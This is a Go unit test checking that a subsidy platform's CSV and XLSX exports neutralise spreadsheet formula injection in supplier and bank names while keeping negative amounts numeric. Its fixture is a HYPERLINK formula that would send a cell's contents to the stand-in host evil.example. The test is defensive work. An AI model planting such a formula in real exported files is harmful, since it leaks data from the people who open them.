package subsidies

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/xuri/excelize/v2"

	"procfin/platform/money"
)

const hyperlink = `=HYPERLINK("http://evil.example/?d="&B2,"x")`

// TestExportsNeutraliseFormulas: a supplier or bank name that is a
// spreadsheet formula comes out of every CSV as text ('=…), while negative
// decimal amounts stay numbers; in the XLSX the name is a string cell,
// never a formula.
func TestExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	lines := []Line{{ClaimID: "c1", SupplierUSCC: "91350100M000100Y43", SupplierName: hyperlink, BankID: "@bank",
		ApplicationID: "a1", PaidOn: money.MustDate("2027-02-20"), InterestPaid: money.MustAmount("6900.00"),
		PolicyVersion: 1, Amount: money.MustAmount("3100.00")}}
	b := Batch{ID: "b1", Claims: 1, Total: money.MustAmount("3100.00")}

	out, err := ExportCSV(b, lines, "en")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if rows[1][2] != "'"+hyperlink || rows[1][7] != "'@bank" || rows[1][6] != "3100.00" {
		t.Fatalf("batch CSV line %q", rows[1])
	}

	// Outstanding at the month's end is negative when a bank reported more
	// repaid than disbursed: -12.50 stays a number; 0.00 - 12.50 = -12.50
	// in the TOTAL line too.
	report, err := BankReportCSV("2026-11", []BankReportLine{{BankID: "+qilu", BankName: hyperlink, Applications: 1,
		Disbursed: money.MustAmount("0.00"), Outstanding: money.MustAmount("-12.50"), Overdue: money.MustAmount("0.00")}})
	if err != nil {
		t.Fatal(err)
	}
	rows, err = csv.NewReader(bytes.NewReader(report)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if rows[1][1] != "'+qilu" || rows[1][2] != "'"+hyperlink || rows[1][6] != "-12.50" || rows[2][6] != "-12.50" {
		t.Fatalf("bank report %q", rows)
	}

	x, err := ExportXLSX(b, lines, "en")
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(x))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, cell := range []string{"C2", "H2"} {
		formula, err := f.GetCellFormula("Batch", cell)
		if err != nil || formula != "" {
			t.Fatalf("%s holds the formula %q (%v)", cell, formula, err)
		}
		typ, err := f.GetCellType("Batch", cell)
		if err != nil || (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) {
			t.Fatalf("%s is of type %v (%v), want a string", cell, typ, err)
		}
	}
	if v, _ := f.GetCellValue("Batch", "C2"); v != hyperlink {
		t.Fatalf("C2 = %q", v)
	}
}
